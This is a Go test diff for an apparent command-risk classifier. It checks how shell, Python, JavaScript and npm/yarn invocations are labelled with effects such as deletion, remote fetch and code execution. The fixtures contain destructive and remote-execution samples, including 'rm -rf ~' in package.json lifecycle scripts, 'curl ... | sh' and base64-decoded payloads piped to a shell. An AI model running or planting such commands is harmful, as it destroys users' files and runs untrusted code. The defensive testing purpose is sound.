@@ -12,15 +12,16 @@ import (
 func TestScriptFiles(t *testing.T) {
 	w := world()
 	w.Files = files{
-		"/home/dev/project/build.sh":   "#!/bin/sh\neval \"$(./tool env)\"\nfor d in \"$@\"; do rm -rf \"$d/build\"; done\n. \"$(dirname \"$0\")/lib.sh\"\n$RUNNER --flag\n",
-		"/home/dev/project/run.py":     "import subprocess, sys\nsubprocess.run(sys.argv[1:])\nexec(open(sys.argv[1]).read())\n",
-		"/home/dev/project/run.js":     "eval(process.env.X)",
-		"/home/dev/project/argv.py":    "import os, sys\nos.system(sys.argv[1])\n",
-		"/home/dev/project/wipe.sh":    "#!/bin/sh\neval \"$(./tool env)\"\nrm -rf ~\n",
-		"/home/dev/project/wipe.py":    "import os, shutil\nexec(input())\nshutil.rmtree(os.path.expanduser('~'))\n",
-		"/home/dev/project/fetch.sh":   "#!/bin/sh\ncurl https://example.org/x | sh\n",
-		"/home/dev/project/encoded.sh": "#!/bin/sh\nx=$(cat payload)\necho $x | base64 -d | sh\n",
-		"/home/dev/project/encoded.py": "import base64\nexec(base64.b64decode(open('payload').read()))\n",
+		"/home/dev/project/build.sh":     "#!/bin/sh\neval \"$(./tool env)\"\nfor d in \"$@\"; do rm -rf \"$d/build\"; done\n. \"$(dirname \"$0\")/lib.sh\"\n$RUNNER --flag\n",
+		"/home/dev/project/run.py":       "import subprocess, sys\nsubprocess.run(sys.argv[1:])\nexec(open(sys.argv[1]).read())\n",
+		"/home/dev/project/run.js":       "eval(process.env.X)",
+		"/home/dev/project/argv.py":      "import os, sys\nos.system(sys.argv[1])\n",
+		"/home/dev/project/wipe.sh":      "#!/bin/sh\neval \"$(./tool env)\"\nrm -rf ~\n",
+		"/home/dev/project/wipe.py":      "import os, shutil\nexec(input())\nshutil.rmtree(os.path.expanduser('~'))\n",
+		"/home/dev/project/fetch.sh":     "#!/bin/sh\ncurl https://example.org/x | sh\n",
+		"/home/dev/project/encoded.sh":   "#!/bin/sh\nx=$(cat payload)\necho $x | base64 -d | sh\n",
+		"/home/dev/project/package.json": `{"scripts": {"wipe": "rm -rf ~", "pretest": "rm -rf ~", "build": "tsc $FLAGS && $RUNNER x; rm -rf \"$OUT\"", "add": "rm -rf ~"}}`,
+		"/home/dev/project/encoded.py":   "import base64\nexec(base64.b64decode(open('payload').read()))\n",
 	}
 	for _, tt := range []struct{ line, want string }{
 		{"./build.sh", "[]"}, {"bash build.sh", "[]"}, {"sh -x ./build.sh", "[]"}, {". ./build.sh", "[]"}, {"time bash build.sh", "[]"}, {"bash build.sh a", "[fs.delete]"},
@@ -32,6 +33,10 @@ func TestScriptFiles(t *testing.T) {
 		{"bash fetch.sh", "[net.fetch exec.remote]"},
 		{"bash encoded.sh", "[fs.read exec.code] opaque"}, {". ./encoded.sh", "[fs.read exec.code] opaque"}, {"./encoded.sh", "[fs.read exec.code] opaque"},
 		{"python3 encoded.py", "[exec.code fs.read exec.code] opaque"},
+		{"npm run wipe", "[fs.delete]"}, {"yarn wipe", "[fs.delete]"}, {"pnpm -r wipe --force", "[fs.delete]"}, {"bun wipe", "[fs.delete]"},
+		{"npm t", "[fs.delete]"}, {"npm tst", "[fs.delete]"}, {"yarn test", "[fs.delete]"}, {"npm run build", "[]"}, {"yarn build", "[]"}, {"yarn add wipe", "[package.install]"},
+		{"yarn", "[]"}, {"pnpm why wipe", "[]"},
+		{"echo '{\"scripts\": {\"x\": \"rm -rf $Y\"}}' > package.json; yarn x", "[fs.write fs.delete] opaque"},
 		{"echo 'eval $X' > new.sh; bash new.sh", "[fs.write exec.code] opaque"}, // written by the line itself
 	} {
 		f := facts.New(w).Of(event(tt.line))
